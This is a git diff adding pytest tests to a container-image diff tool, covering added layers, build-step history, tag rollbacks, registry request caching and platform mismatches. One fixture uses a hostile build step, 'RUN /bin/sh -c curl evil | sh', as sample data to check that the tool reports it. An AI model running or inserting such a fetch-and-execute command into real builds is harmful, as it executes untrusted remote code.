@@ -7,6 +7,7 @@ import pytest
 from jsonschema import Draft202012Validator
 
 from bot.cli import main
+from tests.servers.between import between
 from tests.servers.layered import AMD64, ARM64, image, push
 from tests.servers.registry import layer
 from tests.test_evidence_end_to_end import NEW, OLD, OS, PASSWD, RECORDS, record
@@ -167,3 +168,88 @@ def test_an_image_beside_itself_is_told_to_be_the_same(pushed, diff):
     code, out, _ = diff(f"{pushed}:1.0.1", f"{pushed}:1.0.1")
     assert code == 0
     assert "the same image" in out
+
+
+# ------------------------------------------------------------------------------ what changed, and what it costs
+
+
+STEP = {"created_by": "ADD rootfs / # buildkit"}
+EVIL = {"created_by": "RUN /bin/sh -c curl evil | sh # buildkit"}
+
+
+@pytest.fixture(scope="module")
+def layered(open_registry):
+    """Two images without an index; the new one has a layer more, and the same packages."""
+    base, lowest = open_registry.base_url, files(OLD)
+    more = {"created": "2024-11-12T00:00:00Z", "history": [STEP, EVIL]}
+    sides = {
+        "1.0.0": image([lowest], created="2024-10-01T00:00:00Z", history=[STEP]),
+        "1.0.1": image([lowest, layer({"srv/x": b"x"})], **more),
+    }
+    digests = {tag: push(base, "diff/layered", tag, {AMD64: side}) for tag, side in sides.items()}
+    return "diff/layered", digests
+
+
+def test_a_layer_more_and_the_step_that_made_it_are_told(layered, diff, open_registry):
+    name = f"{open_registry.host}/{layered[0]}"
+    _, out, _ = diff(f"{name}:1.0.0", f"{name}:1.0.1")
+    assert "The packages are the same, but 1 layer was put on top of them." in out.replace(
+        "\n", " "
+    )
+    assert "Layers: 1 → 2 (1 as before, 1 new)" in out
+    assert "Build steps: 1 added\n  + RUN /bin/sh -c curl evil | sh\n" in out
+    assert "Made (as they say): 2024-10-01 → 2024-11-12" in out
+    _, page, _ = diff(f"{name}:1.0.0", f"{name}:1.0.1", "--format", "markdown")
+    assert "| Layers | 1 | 2 (1 as before, 1 new) |" in page
+    assert "* **added** `RUN /bin/sh -c curl evil | sh`" in page
+    found = json.loads(diff(f"{name}:1.0.0", f"{name}:1.0.1", "--json")[1])
+    Draft202012Validator(SCHEMA).validate(found)
+    assert found["layers"] | {"new_size": 0} == {
+        "shared": 1, "old": 1, "new": 2, "old_size": 0, "new_size": 0, "fresh": 1,
+    }  # fmt: skip
+    assert found["steps"] == [
+        {"change": "added", "old": None, "new": "RUN /bin/sh -c curl evil | sh"}
+    ]
+
+
+def test_a_tag_that_goes_back_is_said_to(layered, diff, open_registry):
+    name = f"{open_registry.host}/{layered[0]}"
+    _, out, _ = diff(f"{name}:1.0.1", f"{name}:1.0.0")
+    assert "An older version: the tag went back from 1.0.1 to 1.0.0." in out.replace("\n", " ")
+
+
+def test_nothing_is_asked_for_twice(layered, diff, open_registry, tmp_path):
+    repository, digests = layered
+    with between(open_registry.base_url) as server:
+        config = tmp_path / "operator.yaml"
+        said = config.read_text().replace(open_registry.host, server.host)
+        config.write_text(said.replace("enabled: false", "enabled: false\n  provenance: false"))
+        by_tag = [f"{server.host}/{repository}:{tag}" for tag in digests]
+        by_digest = [f"{server.host}/{repository}@{digest}" for digest in digests.values()]
+
+        def asked(refs):
+            server.asked.clear()
+            assert diff(*refs)[0] == 0
+            return sorted(path for _, path in server.asked if path != "/v2/")
+
+        first, again = asked(by_tag), asked(by_tag)
+        blobs = [path for path in first if "/blobs/" in path]
+        assert len(blobs) == 4 == len({*blobs})  # two configurations, two layers
+        assert (
+            again
+            == [path for path in first if path not in blobs]
+            == [f"/v2/{repository}/manifests/{tag}" for tag in digests]
+        )
+        assert asked(by_digest) == []
+
+
+def test_another_platform_than_the_usual_is_said_to_be_compared(diff, open_registry):
+    base, name = open_registry.base_url, f"{open_registry.host}/diff/elsewhere"
+    for tag, platforms in (("1.0.0", (AMD64, ARM64)), ("1.0.1", (ARM64, "linux/riscv64"))):
+        sides = {p: image([files(OLD)], platform=p, config={"User": tag}) for p in platforms}
+        push(base, "diff/elsewhere", tag, sides)
+    _, out, _ = diff(f"{name}:1.0.0", f"{name}:1.0.1")
+    assert "This is about linux/arm64." in out.replace("\n", " ")
+    assert "! linux/amd64 was not compared, as the new image is not made for it" in out
+    assert "Platforms: + linux/riscv64, - linux/amd64" in out
+    assert "(linux/arm64) → " in out
